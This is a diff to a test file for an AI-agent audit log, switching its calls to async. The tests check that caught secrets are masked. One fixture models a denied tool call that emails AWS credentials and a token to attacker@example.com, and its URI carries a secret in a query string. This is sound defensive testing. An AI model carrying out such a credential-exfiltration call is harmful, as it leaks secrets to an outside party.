@@ -70,15 +70,15 @@ describe('audit rows never hold a caught secret in clear', () => {
     return Buffer.concat(readdirSync(dir).map((f) => readFileSync(join(dir, f))));
   };
 
-  it('masks arguments, content, rationale and URI; digests the real payload', () => {
+  it('masks arguments, content, rationale and URI; digests the real payload', async () => {
     const s = openStore(t.file);
     const args = { to: 'attacker@example.com', body: `creds ${AWS_ID} / ${AWS_SECRET}`, token: GHP };
-    const { id } = s.audit.append({
+    const { id } = await s.audit.append({
       agent: 'a', session: 's', kind: 'tool_call', server: 'mail', tool: 'send', payload: args, decision: 'deny',
       rationale: `Blocked: argument body contains ${AWS_ID}`, uri: `https://x.example/?key=${AWS_SECRET}`,
     });
-    s.audit.append({ agent: 'a', session: 's', kind: 'tool_result', payload: [{ type: 'text', text: PEM }], decision: 'deny' });
-    const row = s.audit.get(id)!;
+    await s.audit.append({ agent: 'a', session: 's', kind: 'tool_result', payload: [{ type: 'text', text: PEM }], decision: 'deny' });
+    const row = (await s.audit.get(id!))!;
     expect(row.digest).toBe(sha256Hex(canonicalJson(args)));
     expect(row.preview).toContain('[REDACTED:');
     expect(row.preview).toContain('attacker@example.com');
@@ -94,16 +94,16 @@ describe('audit rows never hold a caught secret in clear', () => {
     }
   });
 
-  it('keeps no value of a secret-sounding argument, a list of them included, in the preview or the recorded interaction', () => {
+  it('keeps no value of a secret-sounding argument, a list of them included, in the preview or the recorded interaction', async () => {
     const s = openStore(t.file);
     const secrets = ['Hunter22xq', 'zz9Plural42', 'Trill1an77'];
     const args = { host: 'db.local', db: { password: secrets[0], api_key: [secrets[1], secrets[2]] } };
     const interaction = { agent: 'a', session: 's', profile: {}, kind: 'tool_call' as const, server: 'db', tool: 'connect', arguments: args };
-    const { id } = s.audit.append({ agent: 'a', session: 's', kind: 'tool_call', server: 'db', tool: 'connect', payload: args, decision: 'allow', interaction });
-    const row = s.audit.get(id)!;
+    const { id } = await s.audit.append({ agent: 'a', session: 's', kind: 'tool_call', server: 'db', tool: 'connect', payload: args, decision: 'allow', interaction });
+    const row = (await s.audit.get(id!))!;
     expect(row.digest).toBe(sha256Hex(canonicalJson(args)));
     expect(row.preview).toContain('db.local');
-    expect(s.audit.interaction(id)?.masked).toBe(true);
+    expect((await s.audit.interaction(id!))?.masked).toBe(true);
     s.close();
     const bytes = rawBytes();
     expect(bytes.includes('db.local')).toBe(true); // the grep itself works
